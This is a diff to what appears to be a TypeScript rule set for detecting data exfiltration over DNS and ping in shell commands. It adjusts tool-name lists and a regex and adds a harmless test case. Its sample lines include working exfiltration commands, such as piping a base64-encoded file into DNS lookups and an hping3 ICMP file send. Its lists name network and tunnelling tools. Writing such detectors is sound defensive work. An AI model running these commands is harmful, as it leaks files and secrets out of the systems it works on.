@@ -7,7 +7,7 @@ import { sensitive } from './collection.ts';
 import { hashStores, lookers, names, userStores } from './stores.ts';
 
 const askers = names('dig nslookup host drill ping ping6 hping3 kdig resolvectl');
-const textEncoders = names('base64 base32 xxd b64encode');
+const textEncoders = names('base64 base32 xxd b64encode od hexdump openssl');
 const servers = names('updog miniserve webfsd');
 const copiers = names('scp rsync sftp tftp ftp');
 const proxies = names('torsocks torify proxychains proxychains4 tor');
@@ -80,10 +80,10 @@ const readers = names('cat base64 base32 xxd tar gzip zip hexdump od head tail d
 /** Names asked of the DNS, and pings, that carry what another program gave. */
 function carriesInQuestion(program: Program, reading: ShellReading): boolean {
   if (!askers.has(program.name)) return false;
-  const filled = program.args.some((word) => /\$\(|\$\w|\$\{/.test(word));
+  const filled = program.args.some((word) => /(\$\(\S*\)|\$\{?\w+\}?)\.[\w-]+\.?\w/.test(word));
   const padded = program.name.startsWith('ping') && /(^| )-p/.test(joined(program)) && optionValue(program, '-p') !== null;
-  const source = sourcesOf(program, reading).some((candidate) => encoders.has(candidate.name) || asksWhoIAm.has(candidate.name));
-  const encoded = source && (filled || padded || operands(program).some((word) => /[A-Za-z0-9+/=]{16,}\./.test(word)));
+  const source = sourcesOf(program, reading).some((candidate) => textEncoders.has(candidate.name) || asksWhoIAm.has(candidate.name));
+  const encoded = source && (filled || padded);
   return encoded || (program.name === 'hping3' && /(^| )(-E|--file|-e|--sign)( |$)/.test(joined(program)));
 }
 
@@ -163,7 +163,14 @@ export const exfiltration: readonly Rule[] = [
       'hping3 --icmp -d 100 --sign s --file x h',
       'cat x | base64 | while read l; do host $l.example.com; done',
     ],
-    harmless: ['dig example.org', 'ping -c 1 $HOST', 'host "$(hostname)"', 'nslookup $NAME', 'dig +short "$1"'],
+    harmless: [
+      'dig example.org',
+      'ping -c 1 $HOST',
+      'host "$(hostname)"',
+      'nslookup $NAME',
+      'dig +short "$1"',
+      'host $(ip route | cut -d" " -f3)',
+    ],
   },
   {
     code: 'RAW_TRANSFER',
